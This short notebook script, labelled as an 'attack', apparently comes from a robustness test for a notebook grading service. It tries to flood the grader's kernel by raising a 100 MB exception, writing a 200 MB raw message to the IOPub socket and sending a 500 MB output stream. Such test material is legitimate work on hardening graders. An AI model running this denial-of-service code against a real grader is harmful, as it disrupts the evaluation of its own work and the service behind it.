# /// attack
# title = "Sends the grader one message of 500 MB, and an exception whose text is as large"
# ///

# %%
kernel = get_ipython().kernel
print("TRIED an exception of 100 MB")
raise ValueError("x" * (100 << 20))

# %%
print("TRIED a message of 500 MB")
kernel.iopub_thread.socket.send_multipart([b"<IDS|MSG>", b"0", b"x" * (200 << 20), b"", b"", b""])
kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * (500 << 20)}, kernel.get_parent("shell"))
